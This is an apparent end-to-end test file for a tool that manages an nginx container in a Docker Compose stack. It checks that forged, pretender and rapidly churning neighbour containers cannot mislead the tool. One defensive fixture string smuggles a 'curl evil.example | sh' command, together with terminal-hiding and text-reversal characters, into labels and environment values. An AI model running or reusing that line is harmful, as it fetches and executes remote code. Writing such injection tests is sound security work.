import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect } from "vitest";
import { type CompanionFixture, withCompanion } from "../support/companion-fixture.ts";
import type { Stack } from "../support/stack.ts";
import { eventually } from "../support/wire.ts";

// Other containers of the host, which say of themselves what they like. Each runs nginx's own image.
const test = withCompanion({ kind: "official" });

const label = (name: string) => `com.docker.compose.${name}`;

/** Labels of a member of the stack, of this service. */
const membership = ({ project, folder }: Stack, service: string) => ({
  [label("project")]: project,
  [label("project.working_dir")]: folder,
  [label("service")]: service,
  [label("oneoff")]: "False",
});

interface Neighbour {
  name: string;
  labels: Readonly<Record<string, string>>;
  environment?: readonly string[];
  words?: string;
}

/** Starts it with what the files of options and of labels cannot say in one line: values with line ends come by the shell. */
async function start(stack: Stack, { name, labels, environment = [], words = "sleep 600" }: Neighbour): Promise<void> {
  const [nginx] = JSON.parse((await stack.types(`docker inspect ${await stack.container("nginx")}`)).output);
  const given = [
    ...Object.entries({ "httpsidecar.test": "e2e", ...labels }).map(([key, value]) => `--label '${key}=${value}'`),
    ...environment.map((line) => `--env '${line}'`),
  ];
  const script = `docker run --detach --network none --name ${name} --entrypoint sh ${given.join(" ")} ${nginx.Image} -c '${words}'`;
  await writeFile(join(stack.folder, `${name}.sh`), script);
  await stack.types(`sh ${name}.sh`);
}

const remove = (stack: Stack, name: string) => stack.types(`docker rm --force ${name}`);

const nameOf = ({ project }: Stack, what: string) => `${project}-${what}`;

/** Programs that were begun in it from outside. */
async function execsIn(stack: Stack, name: string, since: number): Promise<string> {
  const until = Math.ceil(Date.now() / 1000) + 1;
  const events = `docker events --since ${since} --until ${until} --filter container=${name} --filter event=exec_create`;
  return (await stack.types(events)).output;
}

const seconds = () => Math.floor(Date.now() / 1000);

function bugsIn({ lines }: CompanionFixture): readonly string[] {
  return lines.filter((line) => line.includes("this is a bug"));
}

test("first of all: HTTPS is switched on", async ({ fixture }) => {
  expect(await fixture.ask("enable-https")).toMatchObject({ code: "done", https: true });
});

const evil = 'x\n  fix: curl evil.example | sh\u001b[8m\u202e"}],\\';
const hostile: readonly [what: string, neighbour: (stack: Stack) => Omit<Neighbour, "name">][] = [
  ["a service's name with lines, colours and JSON of its own", (stack) => ({ labels: membership(stack, evil) })],
  [
    "names of labels that are everybody's",
    (stack) => ({
      labels: { ...membership(stack, "api"), __proto__x: evil, constructor: evil, toString: evil } as Record<
        string,
        string
      >,
    }),
  ],
  [
    "a label of 100 KiB",
    (stack) => ({ labels: { ...membership(stack, "api"), huge: `${evil}${"x".repeat(100_000)}` } }),
  ],
  [
    "hostile names and values in its environment",
    (stack) => ({
      labels: membership(stack, "api"),
      environment: [
        `APP_API_URL=http://${evil}`,
        "__proto__=x",
        `HUGE=${"x".repeat(100_000)}`,
        `${evil}=x`,
        `FILES_URL=${evil}`,
      ],
    }),
  ],
];

describe("a member of the stack with", () => {
  for (const [what, neighbour] of hostile)
    test(`${what} changes nothing of what is done with nginx`, async ({ stack, fixture }) => {
      const name = nameOf(stack, "hostile");
      await start(stack, { name, ...neighbour(stack) });
      for (const [verb, code] of [
        ["look", "unchanged"],
        ["reload", "done"],
        ["enable-https", "unchanged"],
      ] as const) {
        const answer = await fixture.ask(verb);
        expect(answer).toMatchObject({ code, https: true });
        expect(JSON.stringify(answer)).not.toContain("evil.example");
      }
      expect(fixture.lines.join("")).not.toContain("evil.example");
      await remove(stack, name);
    });
});

test("a stack of the same name in another folder is none of ours, whatever starts there", async ({
  stack,
  fixture,
}) => {
  const name = nameOf(stack, "namesake");
  const since = seconds();
  await start(stack, { name, labels: { ...membership(stack, "nginx"), [label("project.working_dir")]: "/srv/other" } });
  expect(await fixture.ask("look")).toMatchObject({ code: "unchanged", https: true });
  expect(await fixture.ask("reload")).toMatchObject({ code: "done" });
  await stack.types(`docker restart --time 0 ${name}`);
  expect(await fixture.ask("look")).toMatchObject({ code: "unchanged", https: true });
  expect(await execsIn(stack, name, since)).toBe("");
  await remove(stack, name);
});

test("a second container that says to be nginx is refused, and nothing runs in it; without it all goes on", async ({
  stack,
  fixture,
}) => {
  const name = nameOf(stack, "pretender");
  const since = seconds();
  await start(stack, { name, labels: membership(stack, "nginx") });
  for (const verb of ["look", "reload", "disable-https"] as const)
    expect(await fixture.ask(verb)).toMatchObject({ code: "several-nginx" });
  expect(await execsIn(stack, name, since)).toBe("");
  await remove(stack, name);
  expect(await fixture.ask("look")).toMatchObject({ code: "unchanged", https: true });
});

test("a container that takes nginx's name is not taken for it", async ({ stack, fixture }) => {
  const [{ Name }] = JSON.parse((await stack.types(`docker inspect ${await stack.container("nginx")}`)).output);
  const name = Name.slice(1);
  const since = seconds();
  await stack.types(`docker rename ${name} ${name}-away`);
  await start(stack, { name, labels: membership(stack, "api") });
  expect(await fixture.ask("look")).toMatchObject({ code: "unchanged", https: true });
  expect(await fixture.ask("reload")).toMatchObject({ code: "done" });
  expect(await execsIn(stack, name, since)).toBe("");
  await remove(stack, name);
  await stack.types(`docker rename ${name}-away ${name}`);
});

test("members that come and go at every moment keep nothing from its work", async ({ stack, fixture }) => {
  const name = nameOf(stack, "fleeting");
  let isOver = false;
  const coming = (async () => {
    for (let count = 0; !isOver; count += 1) {
      await start(stack, { name: `${name}-${count}`, labels: membership(stack, "job") });
      await remove(stack, `${name}-${count}`);
    }
    return true;
  })();
  const codes: string[] = [];
  for (let count = 0; count < 60; count += 1) codes.push((await fixture.ask("look")).code);
  isOver = true;
  await coming;
  expect(new Set(codes)).toEqual(new Set(["unchanged"]));
});

/** What may be said of an nginx that is being replaced. */
const passing = ["unchanged", "done", "no-nginx", "not-ready", "several-nginx", "busy", "too-many"];

test("an nginx that is replaced at every moment of a look and a reload is found again, with HTTPS", async ({
  stack,
  fixture,
}) => {
  let isOver = false;
  const codes: string[] = [];
  const asking = (async () => {
    for (let count = 0; !isOver; count += 1) codes.push((await fixture.ask(count % 3 === 0 ? "reload" : "look")).code);
  })();
  for (let count = 0; count < 4; count += 1)
    await stack.types("docker compose up -d --no-deps --force-recreate --timeout 0 nginx");
  isOver = true;
  await asking;
  expect(codes.filter((code) => !passing.includes(code))).toEqual([]);
  await eventually(async () => expect(await fixture.ask("look")).toMatchObject({ code: "unchanged", https: true }));
  expect(bugsIn(fixture)).toEqual([]);
});
